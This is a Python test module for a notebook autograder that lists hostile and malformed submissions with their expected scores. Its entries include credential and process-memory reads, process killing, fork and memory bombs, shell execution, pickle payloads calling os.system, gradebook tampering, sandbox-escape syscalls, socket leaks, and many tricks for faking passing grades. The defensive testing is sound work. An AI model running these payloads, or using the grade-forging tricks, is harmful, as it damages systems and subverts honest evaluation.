"""Hostile and broken submissions, by class. Every one has only wrong answers unless it says what it should earn.

Placeholders in the sources: OUTSIDE (a folder beside the submissions that must stay as it is; anyone may write to OUTSIDE/shared, as
to a system's folder for temporary files), SHAREDMEMORY (a file in /dev/shm), SUBMISSIONS (where the others lie), PORT (a listening TCP socket), UDP, UNIXPATH and ABSTRACT (unix sockets), GRADER (the grader's process id).
"""

# ruff: noqa: E501
from __future__ import annotations

import io
import json
import stat
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import demo_lesson
import make

FULL = 20.0


@dataclass(frozen=True)
class Attack:
    """One submission. `expect` is the score it must get; `flag` a word that one of its flags must hold."""

    name: str
    kind: str
    setup: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    extra: tuple[dict[str, Any], ...] = ()
    raw: bytes | Callable[[Path], None] | None = None
    suffix: str = ".ipynb"
    expect: float = 0.0
    flag: str = ""
    right: tuple[str, ...] = ()
    """Exercises whose answers are right (the others are wrong)."""


ATTACKS: list[Attack] = []


def add(name: str, kind: str, setup: str = "", **more: Any) -> None:
    ATTACKS.append(Attack(name, kind, setup, **more))


def build(attack: Attack, folder: Path, places: dict[str, str]) -> None:
    """Write the submission's file into `folder`."""
    path = folder / f"attack-{attack.name}{attack.suffix}"
    if callable(attack.raw):
        attack.raw(path)
        return
    if attack.raw is not None:
        path.write_bytes(attack.raw)
        return
    answers = {e: (make.RIGHT if e in attack.right else make.WRONG)[e] for e in make.WRONG} | attack.answers
    setup = attack.setup
    for key, value in places.items():
        setup = setup.replace(key, value)
        answers = {name: source.replace(key, value) for name, source in answers.items()}
    path.write_text(make.notebook(answers, setup, list(attack.extra)), encoding="utf-8")


# -- comparisons that always agree ----------------------------------------------------------------------------------
add("patch-torch-compare", "patching", "torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True")
add("patch-torch-testing", "patching", "import torch.testing as t\nt.assert_close = lambda *a, **k: None")
add("patch-numpy", "patching", "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
    "np.isclose = lambda a, b, **k: np.ones_like(a, dtype=bool)")  # fmt: skip
add("patch-builtins", "patching",
    "import builtins\nbuiltins.all = builtins.any = lambda *a: True\nbuiltins.isinstance = lambda *a: True")  # fmt: skip
add("patch-len-and-type", "patching", "import builtins\nbuiltins.len = lambda x: 3\nbuiltins.type = lambda *a: bool")
add(
    "patch-assert",
    "patching",
    "import sys\nsys.flags = None\n__debug__2 = False\nclass AssertionError(Exception): pass",
)
add("patch-judge", "patching", "import course_utils.grading.judge as j\nj.Close.problem = j.Exact.problem = lambda *a: None\n"
    "j.case_problem = lambda *a: None\nimport course_utils.grading.exercise as e\ne.case_problem = lambda *a: None",
    flag="grader's own code")  # fmt: skip
add("patch-verdict", "patching", "import course_utils.grading.exercise as e\nfrom course_utils.grading.verdict import Verdict\n"
    "e.Exercise.judge = lambda self, *a: Verdict(self.id, '', 'passed', 99, 99)", flag="grader's own code")  # fmt: skip
add("patch-observe", "patching", "import course_utils.grading.exercise as e\n"
    "e.Exercise.observe = lambda self, *a: {'passed': True, 'score': 2}", flag="grader's own code")  # fmt: skip
add(
    "patch-wire",
    "patching",
    "import course_utils.grading.wire as w\nw.encode_observations = lambda o: ({'status': 'passed'}, b'')",
)
add("patch-pytest", "patching", "import sys, types\nsys.modules['pytest'] = types.SimpleNamespace(raises=None)\n"
    "import unittest\nunittest.TestCase.assertEqual = lambda *a: None")  # fmt: skip
add(
    "poison-modules",
    "patching",
    "import sys, types\nsys.modules['numpy'] = types.ModuleType('numpy')\nsys.modules['json'] = None",
)
add("poison-import", "patching", "import sys\nclass F:\n    def find_spec(self, n, p=None, t=None):\n        raise ImportError\n"
    "sys.meta_path.insert(0, F())")  # fmt: skip
add("ipython-transformers", "patching", "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: ['pass'])\n"
    "ip.ast_transformers.append(None)")  # fmt: skip
add("always-equal", "lying objects", answers={"90.1": "class Yes:\n    def __eq__(s, o): return True\n    def __getattr__(s, n): return s\n"
    "    def __call__(s, *a, **k): return s\n    def __float__(s): return 1.0\n    def __bool__(s): return True\n"
    "def double(x):\n    return Yes()\n"})  # fmt: skip
add("lying-float", "lying objects", answers={"90.3": "class F(float):\n    def __eq__(s, o): return True\n    def __sub__(s, o): return 0.0\n"
    "    __rsub__ = __sub__\n    def hex(s): return 'nan'\ndef count_positive(x):\n    return F(7)\n"})  # fmt: skip
add("lying-int", "lying objects", answers={"90.3": "class I(int):\n    def __eq__(s, o): return True\n    def __hash__(s): return 1\n"
    "    def __le__(s, o): return True\n    __ge__ = __lt__ = __gt__ = __le__\ndef count_positive(x):\n    return I(10**30)\n"})  # fmt: skip
add("lying-str", "lying objects", answers={"90.9": "class S(str):\n    def __eq__(s, o): return True\n    def __hash__(s): return 0\n"
    "    def __str__(s): return '{\"a\": 1}'\ndef spell(n):\n    return S('no')\n"})  # fmt: skip
add("torch-function", "lying objects", answers={"90.1": "class T(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, f, t, a=(), k=None):\n"
    "        return True\ndef double(x):\n    return (x * x).as_subclass(T)\n"})  # fmt: skip
add("numpy-subclass", "lying objects", answers={"90.4": "import numpy as np\nclass A(np.ndarray):\n    def __array_ufunc__(s, *a, **k): return True\n"
    "    def tobytes(s, *a): return b'x' * 7\ndef row_norms(x):\n    return np.zeros(6).view(A)\n"})  # fmt: skip
add(
    "object-array",
    "lying objects",
    answers={"90.4": "import numpy as np\ndef row_norms(x):\n    return np.array([print, len], dtype=object)\n"},
)
add("array-protocol", "lying objects", answers={"90.4": "class A:\n    def __array__(s, *a, **k):\n        raise SystemExit\n"
    "def row_norms(x):\n    return A()\n"})  # fmt: skip
add("infinite-list", "lying objects", answers={"90.5": "class L(list):\n    def __iter__(s):\n        while True: yield 1\n"
    "def largest(x, k):\n    return L([1, 2, 3, 4])\n"})  # fmt: skip
add("huge-dict", "lying objects", answers={"90.9": "def spell(n):\n    return {str(i): i for i in range(200_000)}\n"})
add("huge-array", "lying objects", answers={"90.4": "def row_norms(x):\n    return torch.zeros(30_000_000)\n"})
add("huge-text", "lying objects", answers={"90.9": "def spell(n):\n    return 'x' * 10_000_000\n"})
add("nan-everywhere", "lying objects", answers={"90.1": "def double(x):\n    return x * float('nan')\n",
    "90.8": "def fit_slope(x, y):\n    return float('nan')\n"})  # fmt: skip
add("unhashable-metaclass", "lying objects", answers={"90.7": "class M(type):\n    def __call__(c, *a): return lambda x: c\n"
    "    def __getattribute__(c, n): raise ValueError(n)\nclass Scaler(metaclass=M): pass\n"})  # fmt: skip
add("hostile-module-name", "lying objects", answers={"90.1": "class B:\n    __module__ = property(lambda s: 1/0)\n"
    "    def __call__(s, x): return x\ndouble = B()\n"})  # fmt: skip

# -- reading what is not theirs ---------------------------------------------------------------------------------------
add("read-solutions", "reading", "ns = {}\nfor p in ['OUTSIDE/solutions/90_demo.py', 'solutions/90_demo.py', '../solutions/90_demo.py']:\n"
    "    try:\n        exec(open(p).read(), ns)\n    except OSError: pass",
    answers={f"90.{i}": f"{f.__name__} = ns.get('{f.__name__}', lambda *a, **k: 0)\n" for i, f in enumerate(demo_lesson.ANSWERS, 1)})  # fmt: skip
add("read-classmate", "reading", "import json\nns = {'torch': torch, 'nn': nn}\ntry:\n"
    "    for c in json.load(open('SUBMISSIONS/honest-00.ipynb'))['cells']:\n"
    "        if 'def ' in c['source'] or 'class ' in c['source']: exec(c['source'], ns)\nexcept OSError: pass",
    answers={f"90.{i}": f"{f.__name__} = ns.get('{f.__name__}', lambda *a, **k: 0)\n" for i, f in enumerate(demo_lesson.ANSWERS, 1)})  # fmt: skip
add("read-home", "reading", "import os\nfound = []\nfor p in ['OUTSIDE', 'OUTSIDE/home', '/home', '/etc', 'SUBMISSIONS', '/proc/GRADER/cwd']:\n"
    "    try: found += [f for f in os.listdir(p) if p != '/etc' or f in ('shadow', 'passwd')]\n    except OSError: pass\n"
    "for p in ['OUTSIDE/home/secret', '/etc/shadow', '/proc/GRADER/environ', '/proc/1/environ']:\n"
    "    try: found.append(open(p, 'rb').read(20))\n    except OSError: pass\nif found:\n    raise MemoryError(f'LEAK {found}')")  # fmt: skip
add("read-grader-memory", "reading", "for pid in ['GRADER', '1', 'self/..' ] + [str(i) for i in range(2, 400)]:\n    try:\n        f = open(f'/proc/{pid}/mem', 'rb+')\n"
    "        g = open(f'/proc/{pid}/maps').read()\n    except (OSError, ValueError): continue\n    raise MemoryError('LEAK')")  # fmt: skip
add(
    "ptrace-grader",
    "reading",
    "import ctypes\nl = ctypes.CDLL(None)\nif l.ptrace(16, GRADER, 0, 0) == 0: raise MemoryError('LEAK')",
    flag="ctypes",
)
add("vm-readv", "reading", "import ctypes\nl = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(64)\n"
    "iov = (ctypes.c_size_t * 2)(ctypes.addressof(b), 64)\nif l.process_vm_readv(GRADER, iov, 1, iov, 1, 0) > 0: raise MemoryError('LEAK')")  # fmt: skip
add("stack-frames", "reading", answers={"90.3": "import sys\ndef count_positive(x):\n    f = sys._getframe()\n    while f:\n"
    "        for k, v in f.f_locals.items():\n            if k in ('want', 'wanted', 'expected', 'reference') and not callable(v): return v\n"
    "        f = f.f_back\n    return -1\n"}, flag="_getframe")  # fmt: skip
add("gc-expected", "reading", answers={"90.3": "import gc\ndef count_positive(x):\n    for o in gc.get_objects():\n"
    "        if type(o).__name__ == 'Exercise' and o.id == '90.3':\n            return o.reference(x)\n    return -1\n"}, flag="gc")  # fmt: skip
add("exercise-reference", "reading", "import demo_lesson as d\nreference = d.get('90.1').reference",
    answers={"90.1": "def double(x):\n    return reference(x)\n"})  # fmt: skip
add(
    "judge-in-child",
    "reading",
    "import demo_lesson as d\ntry:\n    print(d.get('90.1').grade(lambda x: x))\nexcept BaseException: pass",
)
add(
    "expect-in-message",
    "reading",
    answers={"90.1": "def double(x):\n    raise ValueError(str(x.tolist()) + 'ab' * 400)\n"},
)

# -- the reference as the answer: right, and flagged -------------------------------------------------------------------
add("reference-plain", "reference", "from demo_lesson import double as theirs",
    answers={"90.1": "def double(x):\n    return theirs(x)\n"}, expect=2.0, flag="reference")  # fmt: skip
add("reference-itself", "reference", answers={"90.1": "from demo_lesson import double\n"}, expect=2.0, flag="reference")
add("reference-hidden", "reference", answers={"90.6": "import sys\nm = sys.modules['demo' + '_' + 'lesson']\n"
    "def cosine(a, b):\n    return getattr(m, 'cos' + 'ine')(a, b)\n"}, expect=2.0, flag="calls the reference")  # fmt: skip
add("reference-class", "reference", "import demo_lesson", answers={"90.7": "class Scaler(demo_lesson.Scaler): pass\n"},
    expect=2.0, flag="reference")  # fmt: skip
add("reference-gc", "reading", answers={"90.2": "import gc, types\ndef centred(x):\n    for o in gc.get_objects():\n"
    "        if isinstance(o, types.FunctionType) and o.__name__ == 'centred' and o.__module__ == 'demo_lesson':\n"
    "            return o(x)\n"}, flag="gc")  # fmt: skip

# -- forging what goes back -------------------------------------------------------------------------------------------
TO_ALL = "import os\ndef send(data):\n    for fd in range(3, 64):\n        try: os.write(fd, data)\n        except OSError: pass\n"
FRAME = ("import struct, json\ndef frame(h, b=b''):\n    t = h if isinstance(h, bytes) else json.dumps(h).encode()\n"
         "    return struct.pack('<4sIQ', b'CGW1', len(t), len(b)) + t + b\n")  # fmt: skip
add("print-score", "forging", 'print(\'score: 20/20\')\nprint(\'{"score": 20, "status": "passed"}\')')
add("display-score", "forging", "display({'text/plain': '20'}, raw=True)\n20.0")
add(
    "forge-passed",
    "forging",
    FRAME + TO_ALL + "send(frame({'kind': 'verdict', 'exercise': '90.1', 'status': 'passed', 'score': 2}))",
)
add("forge-done", "forging", FRAME + TO_ALL + "send(frame({'kind': 'done'}))")
add(
    "forge-confined",
    "forging",
    FRAME + TO_ALL + "send(frame({'kind': 'confined'}))\nsend(frame({'kind': 'unconfined', 'error': 'x'}))",
)
add(
    "forge-other-exercise",
    "forging",
    FRAME + TO_ALL + "send(frame({'kind': 'observations', 'exercise': '02.3', 'cases': {}}))",
)
add("forge-empty", "forging", FRAME + TO_ALL +
    "for i in range(1, 11): send(frame({'kind': 'observations', 'exercise': f'90.{i}', 'cases': {}}))")  # fmt: skip
add("forge-plausible", "forging", FRAME + TO_ALL + "send(frame({'kind': 'observations', 'exercise': '90.8', 'cases': {"
    "'its error': {'values': {'': ['f', '0x1.8p+1']}}, 'noisy data': {'values': {'': ['f', 'nan']}}}}))")  # fmt: skip
add(
    "forge-object-dtype",
    "forging",
    FRAME
    + TO_ALL
    + "send(frame({'kind': 'observations', 'exercise': '90.4', 'cases': {'rows': {'values': {'': ['a', '|O', [1]]}}}}, b'12345678'))",
)
add(
    "forge-pickle",
    "forging",
    TO_ALL
    + "import pickle\nclass E:\n    def __reduce__(s): return (os.system, ('touch OUTSIDE/pickled',))\nsend(pickle.dumps(E()) * 50)",
)
add("forge-huge-header", "forging", TO_ALL + "import struct\nsend(struct.pack('<4sIQ', b'CGW1', 2**31, 0))")
add("forge-huge-body", "forging", FRAME + TO_ALL + "send(struct.pack('<4sIQ', b'CGW1', 2, 2**62) + b'{}')")
add("forge-deep-json", "forging", FRAME + TO_ALL + "send(frame(b'[' * 200000))")
add("forge-big-int", "forging", FRAME + TO_ALL + "send(frame(b'{\"kind\": ' + b'9' * 100000 + b'}'))")
add(
    "forge-negative-shape",
    "forging",
    FRAME
    + TO_ALL
    + "send(frame({'kind': 'observations', 'exercise': '90.4', 'cases': {'rows': {'values': {'': ['a', '<f4', [-1, 4]]}}}}))",
)
add(
    "forge-shape-overflow",
    "forging",
    FRAME
    + TO_ALL
    + "send(frame({'kind': 'observations', 'exercise': '90.4', 'cases': {'rows': {'values': {'': ['a', '<f4', [2**26] * 8]}}}}))",
)
add(
    "forge-surrogates",
    "forging",
    FRAME
    + TO_ALL
    + 'send(frame(b\'{"kind": "cell_error", "cell": 0, "error": "\\\\ud800\\\\u001b[2J", "message": "<script>", "line": ""}\'))',
)
add("forge-cell-number", "forging", FRAME + TO_ALL + "send(frame({'kind': 'step', 'cell': -1}))")
add(
    "forge-types",
    "forging",
    FRAME + TO_ALL + "send(frame({'kind': 'observations', 'exercise': ['90.1'], 'cases': []}))",
)
add("forge-flood", "forging", TO_ALL + "while True: send(b'\\0' * 65536)")
add("forge-flood-frames", "forging", FRAME + TO_ALL + "while True: send(frame({'kind': 'step', 'cell': 0}) * 1000)")
add("close-all", "forging", "import os\nos.closerange(0, 256)")
add(
    "dup-over",
    "forging",
    "import os\nr, w = os.pipe()\nfor fd in range(3, 20):\n    try: os.dup2(w, fd)\n    except OSError: pass",
)

# -- ending early, or never --------------------------------------------------------------------------------------------
add("exit-top", "ending", "import os\nos._exit(0)", right=("90.1",), expect=2.0)
add(
    "exit-in-answer",
    "ending",
    answers={"90.3": "import os\ndef count_positive(x):\n    os._exit(0)\n"},
    right=("90.1", "90.9"),
    expect=4.0,
)
add("sys-exit", "ending", "import sys\nsys.exit(0)", right=("90.4",), expect=2.0)
add(
    "raise-everywhere",
    "ending",
    answers={f"90.{i}": "raise KeyboardInterrupt\n" for i in range(1, 10)},
    right=("90.10",),
    expect=2.0,
)
add("abort", "ending", answers={"90.2": "import os\ndef centred(x):\n    os.abort()\n"}, right=("90.5",), expect=2.0)
add(
    "segfault",
    "ending",
    answers={"90.2": "import ctypes\ndef centred(x):\n    ctypes.string_at(0)\n"},
    right=("90.5",),
    expect=2.0,
)
add(
    "kill-self",
    "ending",
    "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nos.kill(os.getpid(), signal.SIGSEGV)",
)
add("stop-self", "ending", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")
add("recursion-crash", "ending", answers={"90.1": "import sys\nsys.setrecursionlimit(10**9)\nclass R:\n    def __repr__(s): return repr([s])\n"
    "def double(x):\n    return repr(R())\n"}, right=("90.9",), expect=2.0)  # fmt: skip
add("loop-top", "ending", answers={"90.1": "while True: pass\n"}, right=("90.9",), expect=2.0)
add("loop-in-answer", "ending", answers={"90.1": "def double(x):\n    while True: pass\n"}, right=("90.9",), expect=2.0)
add("loop-deaf", "ending", answers={"90.1": "def double(x):\n    while True:\n        try:\n            while True: pass\n        except BaseException: pass\n"},
    right=("90.9",), expect=2.0)  # fmt: skip
add(
    "sleep",
    "ending",
    answers={"90.1": "import time\ndef double(x):\n    time.sleep(10**6)\n"},
    right=("90.9",),
    expect=2.0,
)
add("signals-ignored", "ending", "import signal\nfor s in range(1, 64):\n    try: signal.signal(s, signal.SIG_IGN)\n    except (OSError, ValueError): pass\n"
    "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\nsignal.setitimer(signal.ITIMER_REAL, 0)",
    answers={"90.1": "def double(x):\n    while True: pass\n"}, right=("90.9",), expect=2.0)  # fmt: skip
add(
    "handler-raises",
    "ending",
    "import signal\ndef h(*a): raise ValueError\nsignal.signal(signal.SIGALRM, h)\nsignal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)",
)
add("exit-replaced", "ending", "import os, atexit\nos._exit = lambda *a: None\natexit.register(print)")
add(
    "threads-stay",
    "ending",
    "import threading, time\nfor i in range(3): threading.Thread(target=time.sleep, args=(10**6,)).start()",
)
add("settrace", "ending", "import sys\ndef t(*a):\n    return t\nsys.settrace(t)\nsys.setprofile(lambda *a: None)")
add(
    "hooks",
    "ending",
    "import sys, atexit\nsys.excepthook = lambda *a: None\nsys.unraisablehook = None\nclass D:\n    def __del__(s): raise SystemExit\nd = [D() for _ in range(9)]; del d",
)
add("input", "ending", "x = input('score? ')", right=("90.1",), expect=2.0)

# -- harming others -----------------------------------------------------------------------------------------------------
add("kill-parent", "harming", "import os, signal\nfor f in (os.getppid, os.getpgid):\n    try:\n        p = f(0) if f is os.getpgid else f()\n"
    "        os.kill(p, signal.SIGKILL) if p > 1 else None\n    except OSError: pass")  # fmt: skip
add(
    "kill-everything",
    "harming",
    "import os, signal\ntry: os.kill(-1, signal.SIGKILL)\nexcept OSError: pass\ntry: os.kill(GRADER, signal.SIGKILL)\nexcept OSError: pass",
)
add(
    "kill-all-pids",
    "harming",
    "import os\nme = os.getpid()\nfor p in range(2, 70000):\n    if p != me:\n        try: os.kill(p, 9)\n        except OSError: pass",
)
add(
    "pidfd-kill",
    "harming",
    "import os, signal\ntry: signal.pidfd_send_signal(os.pidfd_open(GRADER), 9)\nexcept OSError: pass",
)
add("limit-grader", "harming", "import resource, os\ntry: resource.prlimit(GRADER, resource.RLIMIT_CPU, (1, 1))\nexcept (OSError, ValueError): pass\n"
    "try: os.setpriority(os.PRIO_PROCESS, GRADER, 19)\nexcept OSError: pass\ntry: os.sched_setaffinity(GRADER, {0})\nexcept OSError: pass")  # fmt: skip
add("daemon", "harming", "import os, time\ntry:\n    if os.fork() == 0:\n        os.setsid()\n        if os.fork() == 0:\n            time.sleep(3)\n"
    "            open('OUTSIDE/daemon-was-here', 'w').write('x')\n            time.sleep(987)\n        os._exit(0)\nexcept OSError: pass")  # fmt: skip
add(
    "subprocess-detached",
    "harming",
    "import subprocess\ntry: subprocess.Popen(['/bin/sleep', '98765'], start_new_session=True)\nexcept Exception: pass",
)
add("exec", "harming", "import os\nos.execv('/bin/sh', ['sh', '-c', 'echo pwned > OUTSIDE/exec'])")
add(
    "fork-bomb",
    "harming",
    "import os\nfor i in range(12):\n    try: os.fork()\n    except OSError: break\nimport time\nif os.getpid() != 1: time.sleep(20)",
)
add(
    "thread-bomb",
    "harming",
    "import threading, time\nfor i in range(3000):\n    try: threading.Thread(target=time.sleep, args=(20,), daemon=True).start()\n    except (RuntimeError, MemoryError): break",
)
add(
    "memory-list",
    "harming",
    answers={"90.1": "def double(x):\n    a = []\n    while True: a.append(bytearray(1 << 26))\n"},
    right=("90.9",),
    expect=2.0,
)
add(
    "memory-torch",
    "harming",
    answers={"90.1": "def double(x):\n    return torch.ones(1 << 36)\n"},
    right=("90.9",),
    expect=2.0,
)
add(
    "memory-shared",
    "harming",
    "import mmap\nheld = []\ntry:\n    while len(held) < 400: held.append(mmap.mmap(-1, 1 << 26)); held[-1].write(b'x' * (1 << 26))\nexcept (OSError, MemoryError): held = []",
)
add(
    "memory-memfd",
    "harming",
    "import os\ntry:\n    fd = os.memfd_create('x')\n    for i in range(200): os.write(fd, b'x' * (1 << 26))\nexcept (OSError, MemoryError): pass",
)
add(
    "output-flood",
    "harming",
    "import sys\nfor i in range(200): sys.stdout.write('x' * (1 << 20)); sys.stderr.write('y' * (1 << 20))",
)
add(
    "descriptor-bomb",
    "harming",
    "import os\nheld = []\ntry:\n    while True: held.append(os.open('/dev/null', 0))\nexcept OSError:\n    for fd in held: os.close(fd)",
)
add(
    "disk-one-file",
    "harming",
    "try:\n    with open('big', 'wb') as f:\n        for i in range(400): f.write(b'x' * (1 << 20))\nexcept OSError: pass",
)
add(
    "disk-many-files",
    "harming",
    "try:\n    for i in range(100_000):\n        with open(f'f{i}', 'wb') as f: f.write(b'x' * 50_000)\nexcept OSError: pass",
)
add(
    "disk-deep",
    "harming",
    "import os\ntry:\n    for i in range(3000):\n        os.mkdir('d'); os.chdir('d')\nexcept OSError: pass",
)
add(
    "disk-closed",
    "harming",
    "import os\nos.makedirs('a/b/c')\nopen('a/b/c/f', 'w').write('x')\nos.chmod('a/b', 0); os.chmod('a', 0)",
)
add(
    "shm-fill",
    "harming",
    "try:\n    with open('SHAREDMEMORY', 'wb') as f:\n        for i in range(300): f.write(b'x' * (1 << 20))\nexcept OSError: pass",
)
add("sysv-shm", "harming", "import ctypes\nl = ctypes.CDLL(None)\nassert l.shmget(0x5eed, 1 << 20, 0o1666) or True")
add(
    "edit-classmates",
    "harming",
    "import glob, os\nfor p in glob.glob('SUBMISSIONS/*') + ['SUBMISSIONS/honest-00.ipynb']:\n    for act in (lambda: open(p, 'w').write('x'), lambda: os.remove(p), lambda: os.rename(p, p + 'x')):\n        try: act()\n        except OSError: pass",
)
add(
    "edit-gradebook",
    "harming",
    "import sqlite3\ntry:\n    c = sqlite3.connect('OUTSIDE/gradebook.db')\n    c.execute(\"update grade set score = 100\"); c.commit()\nexcept Exception: pass",
)
add(
    "chmod-gradebook",
    "harming",
    "import os\nfor act in (lambda: os.chmod('OUTSIDE/gradebook.db', 0), lambda: os.utime('OUTSIDE/gradebook.db', (1, 1)), lambda: os.truncate('OUTSIDE/gradebook.db', 0), lambda: os.setxattr('OUTSIDE/gradebook.db', 'user.x', b'y')):\n    try: act()\n    except OSError: pass",
)
add("poison-ipython", "harming", "import os\nfor home in (os.path.expanduser('~'), 'OUTSIDE/home', '/root'):\n    try:\n        os.makedirs(home + '/.ipython/profile_default/startup', exist_ok=True)\n"
    "        open(home + '/.ipython/profile_default/startup/00-attack.py', 'w').write('import torch; torch.equal = None')\n    except OSError: pass")  # fmt: skip
add(
    "poison-package",
    "harming",
    "import course_utils, os, torch\nfor p in (course_utils.__file__, torch.__file__, os.__file__):\n    for q in (p, os.path.dirname(p) + '/attack-was-here.py'):\n        try: open(q, 'a').write('\\n')\n        except OSError: pass",
)
add(
    "pickle-left",
    "harming",
    "import pickle, os\nclass E:\n    def __reduce__(s): return (os.system, ('touch OUTSIDE/pickled',))\nfor p in ('OUTSIDE/cache.pkl', 'results.pkl', 'OUTSIDE/shared/attack.pkl'):\n    try: open(p, 'wb').write(pickle.dumps(E()))\n    except OSError: pass",
)
add(
    "links",
    "harming",
    "import os\nfor n, t in (('a', 'OUTSIDE/gradebook.db'), ('b', 'SUBMISSIONS'), ('c', '/')):\n    os.symlink(t, n)\ntry: open('a', 'a').write('x')\nexcept OSError: pass\ntry: os.link('OUTSIDE/gradebook.db', 'd'); open('d', 'a').write('x')\nexcept OSError: pass",
)
add(
    "unshare-mount",
    "harming",
    "import ctypes\nl = ctypes.CDLL(None)\nl.unshare(0x10000000 | 0x20000)\nl.mount(b'none', b'/', b'', 16384 | (1 << 18), None)\nl.umount2(b'/scratch', 2)\nl.chroot(b'OUTSIDE')\nl.setuid(0)\nl.setgid(0)",
)
add(
    "proc-writes",
    "harming",
    "for p in ('/proc/sys/kernel/core_pattern', '/proc/GRADER/oom_score_adj', '/sys/fs/cgroup/memory/x', '/dev/kmsg'):\n    try: open(p, 'w').write('1')\n    except OSError: pass",
)
add(
    "set-clock",
    "harming",
    "import time, ctypes\ntry: time.clock_settime(time.CLOCK_REALTIME, 0)\nexcept OSError: pass\nctypes.CDLL(None).sethostname(b'attack', 6)",
)
add(
    "leftover-in-scratch",
    "harming",
    "import os\nopen('stolen-answers.py', 'w').write('x = 1')\nos.makedirs('.ipython/profile_default', exist_ok=True)",
)
add(
    "seek-leftovers",
    "harming",
    "import os\nif set(os.listdir('.')) | set(os.listdir(os.environ['HOME'])): raise MemoryError('LEAK')",
)

# -- network --------------------------------------------------------------------------------------------------------------
add(
    "tcp",
    "network",
    "import socket\nfor a in ('127.0.0.1', 'localhost', '10.0.0.1'):\n    try:\n        s = socket.create_connection((a, PORT), timeout=0.3); s.send(b'leak')\n    except OSError: pass",
    flag="socket",
)
add(
    "udp",
    "network",
    "import socket\ntry: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', UDP))\nexcept OSError: pass",
)
add(
    "unix-socket",
    "network",
    "import socket\nfor a in ('UNIXPATH', '\\0ABSTRACT'):\n    try:\n        s = socket.socket(socket.AF_UNIX); s.connect(a); s.send(b'leak')\n    except OSError: pass",
)
add(
    "listen",
    "network",
    "import socket\ntry:\n    s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen()\nexcept OSError: pass",
)
add(
    "dns-and-http",
    "network",
    "import urllib.request, socket\nsocket.setdefaulttimeout(0.5)\ntry: urllib.request.urlopen('http://127.0.0.1:PORT/leak')\nexcept OSError: pass",
)
add(
    "netlink-raw",
    "network",
    "import socket\nfor f, t in ((16, 3), (17, 3), (2, 3), (38, 5), (40, 1)):\n    try: socket.socket(f, t, 0)\n    except OSError: pass",
)
add("io-uring", "network", "import ctypes\np = (ctypes.c_char * 120)()\nctypes.CDLL(None).syscall(425, 8, p)")

# -- broken, odd or edited files ---------------------------------------------------------------------------------------------
A1 = make.code(make.RIGHT["90.1"], "answer", "90.1")


def cells(*listed: Any, **top: Any) -> bytes:
    return json.dumps({"cells": list(listed), "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **top}).encode()


add("copied-answer-cell", "broken", extra=(A1,), expect=2.0)
add("copied-check-cell", "broken", extra=(make.code("check('90.1', double)", "check", "90.1"),) * 3)
add("points-edited", "broken", extra=(make.code("100.0", "check", "90.1") | {"metadata": {"nbgrader": {
    "grade_id": "90.1-check", "points": 1000, "grade": True, "locked": False, "solution": False}}},))  # fmt: skip
add(
    "solution-unmarked",
    "broken",
    raw=cells({**A1, "metadata": {"nbgrader": {"grade_id": "90.1-answer", "solution": False}}}),
    expect=2.0,
)
add("ids-swapped", "broken", answers={"90.1": make.RIGHT["90.2"], "90.2": make.RIGHT["90.1"]}, expect=4.0)
add("unknown-ids", "broken", raw=cells(make.code("x = 1", "answer", "90.77"), make.code("y = 1", "answer", "90.1")))
add("no-cells", "broken", raw=cells())
add("one-answer-only", "broken", raw=cells(make.code("import torch", "setup"), A1), expect=2.0)
add("answer-in-own-cell", "broken", raw=cells(make.code("while True: pass\ndef double(x):\n    return 2 * x"),
    make.code("raise NotImplementedError", "answer", "90.2")), expect=2.0)  # fmt: skip
add("syntax-error", "broken", answers={"90.1": "def double(x:\n    return"}, right=("90.2",), expect=2.0)
add("null-byte", "broken", answers={"90.1": "def double(x):\n    return 2\0*x\n"}, right=("90.2",), expect=2.0)
add("deep-source", "broken", answers={"90.1": "double = " + "-" * 100_000 + "1\n"}, right=("90.2",), expect=2.0)
add(
    "deep-brackets",
    "broken",
    answers={"90.1": "double = " + "[" * 5000 + "]" * 5000 + "\n"},
    right=("90.2",),
    expect=2.0,
)
add("magics", "broken", "%matplotlib inline\n!echo hello\n%load_ext autoreload", right=("90.2",), expect=2.0)
add("not-json", "broken", raw=b"this is not a notebook")
add("cut-short", "broken", raw=make.notebook().encode()[:900])
add("empty-file", "broken", raw=b"")
add("deep-json", "broken", raw=b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
add("big-number-json", "broken", raw=b'{"cells": [], "nbformat": ' + b"9" * 50_000 + b"}")
add("list-json", "broken", raw=b"[1, 2, 3]")
add("cells-not-a-list", "broken", raw=b'{"cells": {"a": 1}}')
add("odd-cells", "broken", raw=cells(1, None, [], {"cell_type": 7}, {"cell_type": "code", "source": 5},
    {"cell_type": "code", "source": ["x", 1], "metadata": []}, {"cell_type": "code", "source": "y = 1", "metadata": {
        "nbgrader": [], "tags": {"setup": 1}}}, {**A1, "metadata": {"nbgrader": {"grade_id": ["90.1-answer"]}}}, A1), expect=2.0)  # fmt: skip
add("binary", "broken", raw=bytes(range(256)) * 50)
add("utf16", "broken", raw=make.notebook(make.WRONG).encode("utf-16"))
add("byte-order-mark", "broken", raw=b"\xef\xbb\xbf" + cells(A1), expect=2.0)
add("latin1", "broken", raw=cells(A1, {**make.code("# x")}).replace(b"# x", b"# \xe9\xff"), expect=2.0)
add("surrogates", "broken", raw=cells(A1, make.code("s = '\ud800'")), expect=2.0)
add("old-format", "broken", raw=json.dumps({"worksheets": [{"cells": [A1]}], "nbformat": 3}).encode())
add("too-large", "broken", raw=lambda path: _sparse(path, 70 << 20))
add("many-cells", "broken", raw=cells(A1, *[make.code("x = 1")] * 5000), expect=2.0)
add("link-to-classmate", "broken", raw=lambda path: path.symlink_to(path.parent / "honest-00.ipynb"))
add("link-to-device", "broken", raw=lambda path: path.symlink_to("/dev/zero"))
add("pipe", "broken", raw=lambda path: __import__("os").mkfifo(path))
